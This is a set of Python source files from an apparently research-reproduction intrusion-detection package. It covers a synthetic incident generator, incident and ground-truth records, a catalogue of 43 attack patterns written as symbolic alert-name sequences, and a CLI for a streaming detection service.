            sequences.append(AlertSequence(tuple(alerts)))
        return sequences

    def daily_alert_volumes(
        self,
        days: int = 60,
        *,
        mean: float = TARGET_DAILY_MEAN,
        std: float = TARGET_DAILY_STD,
    ) -> np.ndarray:
        """Daily alert counts for a sample window (Fig. 2).

        Volumes are dominated by repeated port/vulnerability scans
        (roughly 80 K of the 94 K daily alerts per Insight 3), with the
        remainder produced by legitimate-activity monitors.
        """
        if days < 1:
            raise ValueError("days must be positive")
        volumes = self.rng.normal(loc=mean, scale=std, size=days)
        return np.maximum(1_000, volumes).astype(np.int64)

    def daily_volume_breakdown(self, days: int = 60) -> dict[str, np.ndarray]:
        """Daily volumes split into repeated scans vs. other alerts."""
        totals = self.daily_alert_volumes(days)
        scan_fraction = np.clip(self.rng.normal(80_000 / 94_238, 0.03, size=days), 0.6, 0.95)
        scans = (totals * scan_fraction).astype(np.int64)
        return {"total": totals, "scans": scans, "other": totals - scans}


def generate_default_corpus(seed: int = 7) -> IncidentCorpus:
    """One-call helper used by examples, tests, and benchmarks."""
    return IncidentGenerator(seed=seed).generate_corpus()


__all__ = [
    "DEFAULT_NUM_INCIDENTS",
    "TARGET_RAW_ALERTS",
    "TARGET_FILTERED_ALERTS",
    "TARGET_DAILY_MEAN",
    "TARGET_DAILY_STD",
    "TARGET_MOTIF_PREVALENCE",
    "GeneratorConfig",
    "IncidentGenerator",
    "generate_default_corpus",
]
