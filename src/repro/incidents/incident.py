"""Incident records, ground truth, and human-style incident reports.

The paper's dataset is built from forensically examined security
incidents, each of which includes (i) a human-written incident report
that fixes the ground truth -- the compromised users and machines --
(ii) the raw network/system/audit logs covering the incident window,
and (iii) the filtered symbolic alerts directly related to the attack.
This module models that structure:

* :class:`GroundTruth` -- the attacker-controlled identities and
  machines, the entry point, and whether the attack succeeded,
* :class:`Incident` -- the curated record: the attack's alert sequence,
  timing, family, and ground truth,
* :class:`IncidentReport` -- a rendered, human-readable report similar
  to the snippet quoted in §V.C of the paper.
"""

from __future__ import annotations

import dataclasses
import datetime as _dt
from typing import Any, Mapping, Optional, Sequence

from ..core.alerts import Alert, AlertVocabulary, DEFAULT_VOCABULARY
from ..core.sequences import AlertSequence
from ..core.states import AttackStage


@dataclasses.dataclass(frozen=True)
class GroundTruth:
    """Forensic ground truth established by the security team."""

    compromised_users: tuple[str, ...]
    compromised_hosts: tuple[str, ...]
    attacker_ips: tuple[str, ...]
    entry_point: str
    succeeded: bool = True
    data_breach: bool = False
    notes: str = ""

    def involves_user(self, user: str) -> bool:
        """Whether ``user`` is named in the ground truth."""
        return user in self.compromised_users

    def involves_host(self, host: str) -> bool:
        """Whether ``host`` is named in the ground truth."""
        return host in self.compromised_hosts


@dataclasses.dataclass(frozen=True)
class Incident:
    """One curated security incident.

    Attributes
    ----------
    incident_id:
        Stable identifier (``NCSA-YYYY-NNN`` style).
    year:
        Calendar year of the incident (2000-2024 in the corpus).
    family:
        Attack family (rootkit, credential_theft, ransomware, ...).
    sequence:
        The *filtered* alert sequence directly related to the attack
        (what remains of the raw logs after scan filtering).
    ground_truth:
        Forensic ground truth.
    pattern_names:
        Names of catalogue patterns instantiated by this incident (used
        to validate re-mining; a real corpus would not carry this).
    raw_alert_count:
        Number of raw alerts in the incident window before filtering
        (the 25M-to-191K reduction in Table I happens corpus-wide).
    """

    incident_id: str
    year: int
    family: str
    sequence: AlertSequence
    ground_truth: GroundTruth
    pattern_names: tuple[str, ...] = ()
    raw_alert_count: int = 0

    def __post_init__(self) -> None:
        if not 2000 <= self.year <= 2100:
            raise ValueError(f"incident year out of range: {self.year}")
        if len(self.sequence) == 0:
            raise ValueError(f"incident {self.incident_id} has an empty alert sequence")

    @property
    def start_time(self) -> float:
        """Timestamp of the first filtered alert."""
        return self.sequence[0].timestamp

    @property
    def end_time(self) -> float:
        """Timestamp of the last filtered alert."""
        return self.sequence[-1].timestamp

    @property
    def duration_seconds(self) -> float:
        """Wall-clock span of the filtered alert sequence."""
        return self.end_time - self.start_time

    @property
    def alert_names(self) -> tuple[str, ...]:
        """Symbolic names of the filtered alerts, in order."""
        return self.sequence.names

    @property
    def num_alerts(self) -> int:
        """Number of filtered alerts."""
        return len(self.sequence)

    def stage_reached(self, vocabulary: Optional[AlertVocabulary] = None) -> AttackStage:
        """Most mature lifecycle stage the incident reached."""
        vocab = vocabulary or DEFAULT_VOCABULARY
        return max((vocab.get(a.name).stage for a in self.sequence), default=AttackStage.BACKGROUND)

    def critical_alert_names(self, vocabulary: Optional[AlertVocabulary] = None) -> list[str]:
        """Names of critical alerts observed during the incident."""
        vocab = vocabulary or DEFAULT_VOCABULARY
        return [a.name for a in self.sequence if vocab.get(a.name).critical]

    def to_dict(self) -> dict[str, Any]:
        """JSON-serialisable representation (used by corpus save/load)."""
        return {
            "incident_id": self.incident_id,
            "year": self.year,
            "family": self.family,
            "alerts": [a.to_dict() for a in self.sequence],
            "ground_truth": dataclasses.asdict(self.ground_truth),
            "pattern_names": list(self.pattern_names),
            "raw_alert_count": self.raw_alert_count,
        }

    @classmethod
    def from_dict(cls, data: Mapping[str, Any]) -> "Incident":
        """Inverse of :meth:`to_dict`."""
        ground = data["ground_truth"]
        return cls(
            incident_id=str(data["incident_id"]),
            year=int(data["year"]),
            family=str(data["family"]),
            sequence=AlertSequence.from_alerts(Alert.from_dict(a) for a in data["alerts"]),
            ground_truth=GroundTruth(
                compromised_users=tuple(ground["compromised_users"]),
                compromised_hosts=tuple(ground["compromised_hosts"]),
                attacker_ips=tuple(ground["attacker_ips"]),
                entry_point=str(ground["entry_point"]),
                succeeded=bool(ground.get("succeeded", True)),
                data_breach=bool(ground.get("data_breach", False)),
                notes=str(ground.get("notes", "")),
            ),
            pattern_names=tuple(data.get("pattern_names", ())),
            raw_alert_count=int(data.get("raw_alert_count", 0)),
        )


@dataclasses.dataclass(frozen=True)
class IncidentReport:
    """A rendered, human-readable incident report."""

    incident: Incident
    title: str
    body: str

    @classmethod
    def render(
        cls,
        incident: Incident,
        vocabulary: Optional[AlertVocabulary] = None,
    ) -> "IncidentReport":
        """Render a report in the style quoted in the paper's case study."""
        vocab = vocabulary or DEFAULT_VOCABULARY
        start = _dt.datetime.fromtimestamp(incident.start_time, tz=_dt.timezone.utc)
        lines = [
            f"Incident {incident.incident_id} ({incident.family}), opened "
            f"{start:%Y-%m-%d %H:%M} UTC.",
            "",
            "Ground truth:",
            f"  compromised users : {', '.join(incident.ground_truth.compromised_users) or '(none)'}",
            f"  compromised hosts : {', '.join(incident.ground_truth.compromised_hosts) or '(none)'}",
            f"  attacker IPs      : {', '.join(incident.ground_truth.attacker_ips) or '(unknown)'}",
            f"  entry point       : {incident.ground_truth.entry_point}",
            f"  data breach       : {'yes' if incident.ground_truth.data_breach else 'no'}",
            "",
            "Timeline of filtered alerts:",
        ]
        for alert in incident.sequence:
            stamp = _dt.datetime.fromtimestamp(alert.timestamp, tz=_dt.timezone.utc)
            spec = vocab.get(alert.name)
            marker = "!" if spec.critical else " "
            lines.append(
                f"  {stamp:%Y-%m-%d %H:%M:%S} [{marker}] {alert.name} "
                f"(host={alert.host or '-'}, src={alert.source_ip or '-'})"
            )
        if incident.ground_truth.notes:
            lines.extend(["", incident.ground_truth.notes])
        title = f"{incident.incident_id}: {incident.family} affecting {len(incident.ground_truth.compromised_hosts)} host(s)"
        return cls(incident=incident, title=title, body="\n".join(lines))


def incidents_to_sequences(incidents: Sequence[Incident]) -> list[AlertSequence]:
    """Extract the alert sequences of many incidents (analysis helper)."""
    return [incident.sequence for incident in incidents]


__all__ = [
    "GroundTruth",
    "Incident",
    "IncidentReport",
    "incidents_to_sequences",
]
