"""Catalogue of recurring attack-alert patterns (S1..S43).

The paper mines the >200-incident corpus for common alert sequences and
names them S1 through S43 (Fig. 3b).  Their key published properties:

* pattern lengths range from two up to fourteen alerts,
* the most frequent pattern (S1) was seen 14 times across the corpus,
* the single most persistent motif -- download a source file over
  unsecured HTTP, compile it as a kernel module, erase the forensic
  trace -- was first observed in 2002 and is present in 60.08 % of all
  incidents (as a motif inside longer sequences),
* patterns mostly describe the *onset* of an attack (gaining access and
  establishing a foothold), which is what makes them usable for
  preemption.

The real catalogue is withheld pending publication, so this module
defines a faithful synthetic stand-in: 43 named patterns over the
default alert vocabulary, organised by attack family, with lengths and
a frequency profile matching Fig. 3b.  The catalogue is consumed by

* :mod:`repro.incidents.generator` -- incidents are built by
  instantiating these patterns (plus noise), so the corpus's Fig. 3b
  histogram is reproducible by *re-mining* rather than by construction,
* :mod:`repro.core.training` -- pattern factor weights,
* :mod:`repro.core.attack_tagger` -- pattern factors at detection time.
"""

from __future__ import annotations

import dataclasses
from typing import Iterator, Optional, Sequence

from ..core.sequences import is_subsequence


@dataclasses.dataclass(frozen=True)
class AttackPattern:
    """One named, ordered alert-sequence pattern.

    Attributes
    ----------
    name:
        Pattern identifier (``S1`` .. ``S43``).
    names:
        Ordered tuple of symbolic alert names.
    family:
        Attack family the pattern belongs to (rootkit, ransomware,
        credential theft, ...), used by the incident generator.
    first_seen_year:
        Year the pattern first appeared in the (synthetic) corpus;
        mirrors the paper's observation that the download/compile/erase
        pattern dates back to 2002.
    base_frequency:
        Target number of occurrences across a >200-incident corpus;
        drives the generator so the re-mined Fig. 3b histogram matches.
    """

    name: str
    names: tuple[str, ...]
    family: str
    first_seen_year: int = 2002
    base_frequency: int = 1

    def __post_init__(self) -> None:
        if len(self.names) < 2:
            raise ValueError(f"pattern {self.name}: patterns have at least two alerts")
        if len(self.names) > 14:
            raise ValueError(f"pattern {self.name}: patterns have at most fourteen alerts")
        if self.base_frequency < 1:
            raise ValueError(f"pattern {self.name}: base_frequency must be >= 1")

    @property
    def length(self) -> int:
        """Number of alerts in the pattern."""
        return len(self.names)

    def occurs_in(self, names: Sequence[str]) -> bool:
        """Whether the pattern occurs (as an ordered subsequence) in ``names``."""
        return is_subsequence(self.names, names)

    def proper_prefixes(self) -> list[tuple[str, ...]]:
        """Every proper prefix of the backbone (length 1 .. length-1).

        These are the *near-miss* inputs for adversarial workloads: an
        entity that emits a proper prefix walks the detector right up
        to the pattern boundary without completing it, stressing the
        pattern-cursor bookkeeping without (necessarily) firing.
        """
        return [self.names[:length] for length in range(1, len(self.names))]

    def mutated(self, position: int, replacement: str) -> tuple[str, ...]:
        """The backbone with the alert at ``position`` substituted.

        Another near-miss shape: the sequence has the pattern's length
        and all but one of its alerts, so every cursor advances except
        the one crossing the substituted step.
        """
        if not 0 <= position < len(self.names):
            raise IndexError(f"pattern {self.name}: no position {position}")
        names = list(self.names)
        names[position] = replacement
        return tuple(names)


#: The signature motif called out repeatedly in the paper.
DOWNLOAD_COMPILE_ERASE: tuple[str, ...] = (
    "alert_download_sensitive",
    "alert_compile_kernel_module",
    "alert_erase_forensic_trace",
)

#: Alert types accepted for the "compile" step when the motif is matched
#: semantically (the paper describes the behaviour, not an exact symbol).
COMPILE_ALERTS: tuple[str, ...] = (
    "alert_compile_kernel_module",
    "alert_suspicious_compile",
)


def contains_download_compile_erase(names: Sequence[str]) -> bool:
    """Semantic containment test for the download/compile/erase motif.

    The paper describes the motif behaviourally: download a source file
    over unsecured HTTP, compile it, erase the forensic trace.  The
    compile step may surface as either a kernel-module build or a
    generic suspicious compilation, so both symbols are accepted.
    """
    state = 0
    for name in names:
        if state == 0 and name == "alert_download_sensitive":
            state = 1
        elif state == 1 and name in COMPILE_ALERTS:
            state = 2
        elif state == 2 and name == "alert_erase_forensic_trace":
            return True
    return False


class PatternCatalogue:
    """Container for the S1..S43 catalogue with lookup helpers."""

    def __init__(self, patterns: Sequence[AttackPattern]) -> None:
        names = [p.name for p in patterns]
        if len(set(names)) != len(names):
            raise ValueError("pattern names must be unique")
        self._patterns: dict[str, AttackPattern] = {p.name: p for p in patterns}

    def __len__(self) -> int:
        return len(self._patterns)

    def __iter__(self) -> Iterator[AttackPattern]:
        return iter(self._patterns.values())

    def __contains__(self, name: str) -> bool:
        return name in self._patterns

    def get(self, name: str) -> AttackPattern:
        """Pattern by name (KeyError if absent)."""
        return self._patterns[name]

    def names(self) -> list[str]:
        """All pattern names in catalogue order."""
        return list(self._patterns)

    def by_family(self, family: str) -> list[AttackPattern]:
        """Patterns belonging to one attack family."""
        return [p for p in self if p.family == family]

    def families(self) -> list[str]:
        """Distinct families, in first-appearance order."""
        seen: list[str] = []
        for pattern in self:
            if pattern.family not in seen:
                seen.append(pattern.family)
        return seen

    def lengths(self) -> list[int]:
        """Pattern lengths, in catalogue order."""
        return [p.length for p in self]

    def matching(self, names: Sequence[str]) -> list[AttackPattern]:
        """All catalogue patterns contained in an alert-name sequence."""
        return [p for p in self if p.occurs_in(names)]

    def frequency_histogram(self, sequences: Sequence[Sequence[str]]) -> dict[str, int]:
        """Count, per pattern, how many sequences contain it (Fig. 3b)."""
        return {
            pattern.name: sum(1 for names in sequences if pattern.occurs_in(names))
            for pattern in self
        }


def _rootkit_patterns() -> list[AttackPattern]:
    """Patterns of the classic credential-theft / rootkit family."""
    return [
        AttackPattern(
            "S1",
            (
                "alert_login_new_origin",
                "alert_download_sensitive",
                "alert_compile_kernel_module",
                "alert_erase_forensic_trace",
            ),
            family="rootkit",
            first_seen_year=2002,
            base_frequency=14,
        ),
        AttackPattern(
            "S2",
            DOWNLOAD_COMPILE_ERASE,
            family="rootkit",
            first_seen_year=2002,
            base_frequency=12,
        ),
        AttackPattern(
            "S3",
            (
                "alert_login_stolen_credential",
                "alert_download_sensitive",
                "alert_suspicious_compile",
                "alert_privilege_escalation",
            ),
            family="rootkit",
            first_seen_year=2004,
            base_frequency=10,
        ),
        AttackPattern(
            "S4",
            (
                "alert_download_exploit_kit",
                "alert_compile_kernel_module",
                "alert_kernel_module_loaded",
                "alert_erase_forensic_trace",
            ),
            family="rootkit",
            first_seen_year=2005,
            base_frequency=8,
        ),
        AttackPattern(
            "S5",
            (
                "alert_login_unusual_hour",
                "alert_download_sensitive",
                "alert_suspicious_compile",
            ),
            family="rootkit",
            first_seen_year=2003,
            base_frequency=9,
        ),
        AttackPattern(
            "S6",
            (
                "alert_download_sensitive",
                "alert_suspicious_compile",
                "alert_setuid_binary_created",
                "alert_erase_forensic_trace",
            ),
            family="rootkit",
            first_seen_year=2006,
            base_frequency=6,
        ),
        AttackPattern(
            "S7",
            (
                "alert_bruteforce_ssh",
                "alert_login_new_origin",
                "alert_download_sensitive",
                "alert_compile_kernel_module",
                "alert_erase_forensic_trace",
            ),
            family="rootkit",
            first_seen_year=2007,
            base_frequency=5,
        ),
    ]


def _credential_theft_patterns() -> list[AttackPattern]:
    """SSH keylogger / credential-stealing family."""
    return [
        AttackPattern(
            "S8",
            (
                "alert_login_stolen_credential",
                "alert_privilege_escalation",
                "alert_ssh_daemon_replaced",
            ),
            family="credential_theft",
            first_seen_year=2008,
            base_frequency=9,
        ),
        AttackPattern(
            "S9",
            (
                "alert_login_stolen_credential",
                "alert_ssh_daemon_replaced",
                "alert_keylogger_detected",
                "alert_credential_dump_upload",
            ),
            family="credential_theft",
            first_seen_year=2008,
            base_frequency=7,
        ),
        AttackPattern(
            "S10",
            (
                "alert_login_new_origin",
                "alert_privilege_escalation",
                "alert_keylogger_detected",
            ),
            family="credential_theft",
            first_seen_year=2009,
            base_frequency=6,
        ),
        AttackPattern(
            "S11",
            (
                "alert_login_unusual_hour",
                "alert_sudo_policy_violation",
                "alert_privilege_escalation",
                "alert_credential_dump_upload",
            ),
            family="credential_theft",
            first_seen_year=2010,
            base_frequency=5,
        ),
        AttackPattern(
            "S12",
            (
                "alert_login_stolen_credential",
                "alert_new_ssh_key_added",
                "alert_lateral_ssh_batch",
            ),
            family="credential_theft",
            first_seen_year=2011,
            base_frequency=6,
        ),
        AttackPattern(
            "S13",
            (
                "alert_bruteforce_ssh",
                "alert_login_stolen_credential",
            ),
            family="credential_theft",
            first_seen_year=2009,
            base_frequency=4,
        ),
    ]


def _ransomware_patterns() -> list[AttackPattern]:
    """Database-resident ransomware family (the §V case study)."""
    return [
        AttackPattern(
            "S14",
            (
                "alert_db_port_probe",
                "alert_db_default_password_login",
                "alert_service_version_probe",
                "alert_db_largeobject_payload",
            ),
            family="ransomware",
            first_seen_year=2019,
            base_frequency=7,
        ),
        AttackPattern(
            "S15",
            (
                "alert_db_default_password_login",
                "alert_service_version_probe",
                "alert_db_largeobject_payload",
                "alert_tmp_executable_created",
                "alert_outbound_c2",
            ),
            family="ransomware",
            first_seen_year=2020,
            base_frequency=5,
        ),
        AttackPattern(
            "S16",
            (
                "alert_db_largeobject_payload",
                "alert_tmp_executable_created",
                "alert_ssh_key_enumeration",
                "alert_lateral_ssh_batch",
            ),
            family="ransomware",
            first_seen_year=2020,
            base_frequency=4,
        ),
        AttackPattern(
            "S17",
            (
                "alert_db_port_probe",
                "alert_db_default_password_login",
                "alert_db_largeobject_payload",
                "alert_tmp_executable_created",
                "alert_download_second_stage",
                "alert_ssh_scanning_outbound",
                "alert_ransom_note_created",
            ),
            family="ransomware",
            first_seen_year=2021,
            base_frequency=3,
        ),
        AttackPattern(
            "S18",
            (
                "alert_service_version_probe",
                "alert_db_file_export",
                "alert_mass_file_encryption",
            ),
            family="ransomware",
            first_seen_year=2021,
            base_frequency=3,
        ),
        AttackPattern(
            "S19",
            (
                "alert_db_default_password_login",
                "alert_db_largeobject_payload",
                "alert_outbound_c2",
                "alert_ransom_note_created",
                "alert_erase_forensic_trace",
            ),
            family="ransomware",
            first_seen_year=2022,
            base_frequency=2,
        ),
    ]


def _lateral_movement_patterns() -> list[AttackPattern]:
    """SSH-key harvesting and lateral-movement family."""
    return [
        AttackPattern(
            "S20",
            (
                "alert_ssh_key_enumeration",
                "alert_known_hosts_enumeration",
                "alert_lateral_ssh_batch",
            ),
            family="lateral_movement",
            first_seen_year=2012,
            base_frequency=8,
        ),
        AttackPattern(
            "S21",
            (
                "alert_login_stolen_credential",
                "alert_ssh_key_enumeration",
                "alert_lateral_ssh_batch",
                "alert_internal_host_compromise",
            ),
            family="lateral_movement",
            first_seen_year=2013,
            base_frequency=5,
        ),
        AttackPattern(
            "S22",
            (
                "alert_known_hosts_enumeration",
                "alert_lateral_ssh_batch",
                "alert_ssh_scanning_outbound",
            ),
            family="lateral_movement",
            first_seen_year=2014,
            base_frequency=4,
        ),
        AttackPattern(
            "S23",
            (
                "alert_ssh_key_enumeration",
                "alert_lateral_ssh_batch",
                "alert_internal_host_compromise",
                "alert_new_ssh_key_added",
                "alert_erase_forensic_trace",
            ),
            family="lateral_movement",
            first_seen_year=2015,
            base_frequency=3,
        ),
        AttackPattern(
            "S24",
            (
                "alert_login_new_origin",
                "alert_known_hosts_enumeration",
                "alert_lateral_ssh_batch",
            ),
            family="lateral_movement",
            first_seen_year=2013,
            base_frequency=4,
        ),
    ]


def _webexploit_patterns() -> list[AttackPattern]:
    """Web/application exploitation family (SQL injection, Struts-style RCE)."""
    return [
        AttackPattern(
            "S25",
            (
                "alert_vuln_scan",
                "alert_remote_code_execution",
                "alert_download_sensitive",
            ),
            family="web_exploit",
            first_seen_year=2010,
            base_frequency=7,
        ),
        AttackPattern(
            "S26",
            (
                "alert_vuln_scan",
                "alert_remote_code_execution",
                "alert_tmp_executable_created",
                "alert_outbound_c2",
            ),
            family="web_exploit",
            first_seen_year=2014,
            base_frequency=5,
        ),
        AttackPattern(
            "S27",
            (
                "alert_remote_code_execution",
                "alert_download_second_stage",
                "alert_cryptomining",
            ),
            family="web_exploit",
            first_seen_year=2017,
            base_frequency=5,
        ),
        AttackPattern(
            "S28",
            (
                "alert_vuln_scan",
                "alert_remote_code_execution",
                "alert_privilege_escalation",
                "alert_data_exfiltration",
            ),
            family="web_exploit",
            first_seen_year=2016,
            base_frequency=3,
        ),
        AttackPattern(
            "S29",
            (
                "alert_port_scan",
                "alert_vuln_scan",
                "alert_remote_code_execution",
                "alert_download_sensitive",
                "alert_suspicious_compile",
                "alert_outbound_c2",
            ),
            family="web_exploit",
            first_seen_year=2018,
            base_frequency=2,
        ),
    ]


def _data_exfiltration_patterns() -> list[AttackPattern]:
    """Data-breach / exfiltration family."""
    return [
        AttackPattern(
            "S30",
            (
                "alert_login_stolen_credential",
                "alert_research_data_staging",
                "alert_data_exfiltration",
            ),
            family="data_exfiltration",
            first_seen_year=2011,
            base_frequency=6,
        ),
        AttackPattern(
            "S31",
            (
                "alert_login_new_origin",
                "alert_research_data_staging",
                "alert_pii_in_http",
            ),
            family="data_exfiltration",
            first_seen_year=2012,
            base_frequency=4,
        ),
        AttackPattern(
            "S32",
            (
                "alert_privilege_escalation",
                "alert_research_data_staging",
                "alert_data_exfiltration",
                "alert_erase_forensic_trace",
            ),
            family="data_exfiltration",
            first_seen_year=2013,
            base_frequency=3,
        ),
        AttackPattern(
            "S33",
            (
                "alert_login_unusual_hour",
                "alert_research_data_staging",
                "alert_data_exfiltration",
            ),
            family="data_exfiltration",
            first_seen_year=2015,
            base_frequency=3,
        ),
        AttackPattern(
            "S34",
            (
                "alert_ghost_account_login",
                "alert_research_data_staging",
                "alert_pii_in_http",
                "alert_erase_forensic_trace",
            ),
            family="data_exfiltration",
            first_seen_year=2019,
            base_frequency=2,
        ),
    ]


def _cryptomining_patterns() -> list[AttackPattern]:
    """Resource-misuse / cryptomining family."""
    return [
        AttackPattern(
            "S35",
            (
                "alert_login_stolen_credential",
                "alert_download_second_stage",
                "alert_cryptomining",
            ),
            family="cryptomining",
            first_seen_year=2017,
            base_frequency=6,
        ),
        AttackPattern(
            "S36",
            (
                "alert_bruteforce_ssh",
                "alert_login_new_origin",
                "alert_download_second_stage",
                "alert_cryptomining",
            ),
            family="cryptomining",
            first_seen_year=2018,
            base_frequency=4,
        ),
        AttackPattern(
            "S37",
            (
                "alert_remote_code_execution",
                "alert_tmp_executable_created",
                "alert_cryptomining",
                "alert_cron_implant",
            ),
            family="cryptomining",
            first_seen_year=2019,
            base_frequency=3,
        ),
        AttackPattern(
            "S38",
            (
                "alert_login_new_origin",
                "alert_cron_implant",
                "alert_cryptomining",
            ),
            family="cryptomining",
            first_seen_year=2020,
            base_frequency=3,
        ),
    ]


def _persistence_patterns() -> list[AttackPattern]:
    """Backdoor / persistence family, including long multi-stage chains."""
    return [
        AttackPattern(
            "S39",
            (
                "alert_login_stolen_credential",
                "alert_backdoor_account_created",
                "alert_new_ssh_key_added",
            ),
            family="persistence",
            first_seen_year=2006,
            base_frequency=5,
        ),
        AttackPattern(
            "S40",
            (
                "alert_login_new_origin",
                "alert_privilege_escalation",
                "alert_backdoor_account_created",
                "alert_monitor_disabled",
            ),
            family="persistence",
            first_seen_year=2010,
            base_frequency=3,
        ),
        AttackPattern(
            "S41",
            (
                "alert_download_sensitive",
                "alert_suspicious_compile",
                "alert_cron_implant",
                "alert_new_ssh_key_added",
                "alert_erase_forensic_trace",
            ),
            family="persistence",
            first_seen_year=2012,
            base_frequency=2,
        ),
        AttackPattern(
            "S42",
            (
                "alert_bruteforce_ssh",
                "alert_login_failure_burst",
                "alert_login_stolen_credential",
                "alert_download_sensitive",
                "alert_suspicious_compile",
                "alert_privilege_escalation",
                "alert_backdoor_account_created",
                "alert_new_ssh_key_added",
                "alert_ssh_key_enumeration",
                "alert_lateral_ssh_batch",
                "alert_internal_host_compromise",
                "alert_research_data_staging",
                "alert_data_exfiltration",
                "alert_erase_forensic_trace",
            ),
            family="persistence",
            first_seen_year=2016,
            base_frequency=1,
        ),
        AttackPattern(
            "S43",
            (
                "alert_ghost_account_login",
                "alert_privilege_escalation",
                "alert_rootkit_detected",
                "alert_monitor_disabled",
                "alert_data_exfiltration",
                "alert_erase_forensic_trace",
            ),
            family="persistence",
            first_seen_year=2021,
            base_frequency=1,
        ),
    ]


def build_default_catalogue() -> PatternCatalogue:
    """Build the default 43-pattern catalogue described in the paper."""
    patterns: list[AttackPattern] = []
    patterns.extend(_rootkit_patterns())
    patterns.extend(_credential_theft_patterns())
    patterns.extend(_ransomware_patterns())
    patterns.extend(_lateral_movement_patterns())
    patterns.extend(_webexploit_patterns())
    patterns.extend(_data_exfiltration_patterns())
    patterns.extend(_cryptomining_patterns())
    patterns.extend(_persistence_patterns())
    if len(patterns) != 43:
        raise AssertionError(f"default catalogue must have 43 patterns, got {len(patterns)}")
    return PatternCatalogue(patterns)


#: Shared default catalogue instance.
DEFAULT_CATALOGUE: PatternCatalogue = build_default_catalogue()


def download_compile_erase_prevalence(sequences: Sequence[Sequence[str]]) -> float:
    """Fraction of sequences containing the download/compile/erase motif.

    The paper reports 60.08 % (137 of 228 incidents).  Matching is
    semantic (see :func:`contains_download_compile_erase`).
    """
    if not sequences:
        return 0.0
    hits = sum(1 for names in sequences if contains_download_compile_erase(names))
    return hits / len(sequences)


__all__ = [
    "AttackPattern",
    "PatternCatalogue",
    "DOWNLOAD_COMPILE_ERASE",
    "COMPILE_ALERTS",
    "contains_download_compile_erase",
    "build_default_catalogue",
    "DEFAULT_CATALOGUE",
    "download_compile_erase_prevalence",
]
