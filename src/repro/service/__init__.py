"""The always-on detection service: asyncio ingestion over JSONL/TCP.

This package turns the batch-oriented :class:`~repro.testbed.pipeline
.TestbedPipeline` into a long-running network service with the three
robustness properties an operator cares about:

* **Admission control & backpressure** (:mod:`repro.service.admission`)
  -- bounded global and per-connection queues, tiered load shedding
  (shed-raw -> shed-low-priority -> reject) wired into the mirror's
  drop ledger and a replayable dead-letter journal, and a client with
  deterministic retry/backoff.
* **Live resharding** (:mod:`repro.service.resharding`) -- N->M shard
  transitions of the running detector pools with per-entity state
  migration, quiesced at a batch boundary, bit-identical outputs.
* **Graceful degradation & lifecycle** (:mod:`repro.service.server`)
  -- shard-worker failures contained to the batch that hit them,
  periodic and SIGTERM-triggered drain-then-checkpoint, stats with
  per-stage latency percentiles.

Wire protocol and serialisers live in :mod:`repro.service.protocol`;
the CI socket bit-identity gate in :mod:`repro.service.smoke`
(``python -m repro.service --smoke``).
"""

from .admission import (
    AdmissionController,
    AdmissionLimits,
    AdmissionOutcome,
    BackoffPolicy,
    DeadLetterJournal,
    ServiceClient,
    ServiceError,
    ServiceOverloadedError,
    TIERS,
)
from .protocol import (
    CONTROL_VERBS,
    MAX_LINE_BYTES,
    OPS,
    PROTOCOL_VERSION,
    ProtocolError,
    Request,
    THROTTLE_MODES,
    decode_line,
    detection_from_dict,
    detection_to_dict,
    encode_message,
    error_response,
    notification_to_dict,
    ok_response,
    parse_request,
    raw_record_from_dict,
    raw_record_to_dict,
    response_record_to_dict,
    serialize_results,
)
from .resharding import ReshardCoordinator
from .server import (
    DetectionService,
    ServiceConfig,
    ServiceHandle,
    percentile_summary,
    start_service_in_thread,
)

__all__ = [
    # protocol
    "PROTOCOL_VERSION",
    "OPS",
    "CONTROL_VERBS",
    "THROTTLE_MODES",
    "MAX_LINE_BYTES",
    "ProtocolError",
    "Request",
    "encode_message",
    "decode_line",
    "parse_request",
    "ok_response",
    "error_response",
    "raw_record_to_dict",
    "raw_record_from_dict",
    "detection_to_dict",
    "detection_from_dict",
    "notification_to_dict",
    "response_record_to_dict",
    "serialize_results",
    # admission
    "TIERS",
    "AdmissionLimits",
    "AdmissionOutcome",
    "AdmissionController",
    "DeadLetterJournal",
    "BackoffPolicy",
    "ServiceError",
    "ServiceOverloadedError",
    "ServiceClient",
    # resharding
    "ReshardCoordinator",
    # server
    "ServiceConfig",
    "DetectionService",
    "ServiceHandle",
    "start_service_in_thread",
    "percentile_summary",
]
