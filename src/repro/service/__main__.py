"""CLI entry point: run the always-on detection service.

::

    python -m repro.service [--port 7341] [--shards 4 --backend process]
    python -m repro.service --smoke        # CI socket bit-identity gate

The server announces ``LISTENING <port>`` on stdout once bound (so
supervisors and tests can parse the ephemeral port), then serves until
SIGTERM/SIGINT, at which point it drains everything admitted, writes a
final checkpoint (when ``--checkpoint-dir`` is set), and exits 0.
"""

from __future__ import annotations

import argparse
import asyncio
import sys
from pathlib import Path

from ..core.attack_tagger import AttackTagger
from ..incidents import DEFAULT_CATALOGUE
from ..testbed.pipeline import TestbedPipeline
from .admission import AdmissionLimits
from .server import DetectionService, ServiceConfig


def _build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="python -m repro.service",
        description="Always-on streaming detection service (JSONL over TCP).",
    )
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, default=0, help="0 = ephemeral")
    parser.add_argument("--shards", type=int, default=2)
    parser.add_argument(
        "--backend", choices=("serial", "process"), default="process"
    )
    parser.add_argument(
        "--engine",
        choices=("streaming", "rebuild", "naive", "batched"),
        default="streaming",
    )
    parser.add_argument(
        "--restart-policy", choices=("raise", "restore"), default="restore"
    )
    parser.add_argument("--max-window", type=int, default=256)
    parser.add_argument("--threshold", type=float, default=0.7)
    parser.add_argument("--checkpoint-dir", type=Path, default=None)
    parser.add_argument("--checkpoint-interval", type=float, default=0.0)
    parser.add_argument("--keep-last", type=int, default=3)
    parser.add_argument("--dead-letter", type=Path, default=None)
    parser.add_argument("--capacity", type=int, default=64)
    parser.add_argument("--per-connection", type=int, default=16)
    parser.add_argument(
        "--smoke",
        action="store_true",
        help="run the pinned socket bit-identity gate and exit",
    )
    return parser


def main(argv=None) -> int:
    args = _build_parser().parse_args(argv)
    if args.smoke:
        from .smoke import run_service_smoke

        return run_service_smoke()

    def build_pipeline() -> TestbedPipeline:
        tagger = AttackTagger(
            patterns=list(DEFAULT_CATALOGUE),
            engine=args.engine,
            max_window=args.max_window,
            detection_threshold=args.threshold,
        )
        return TestbedPipeline(
            detectors={"factor_graph": tagger},
            n_shards=args.shards,
            shard_backend=args.backend,
            restart_policy=args.restart_policy,
            backoff_base=0.001,
        )

    config = ServiceConfig(
        host=args.host,
        port=args.port,
        limits=AdmissionLimits(
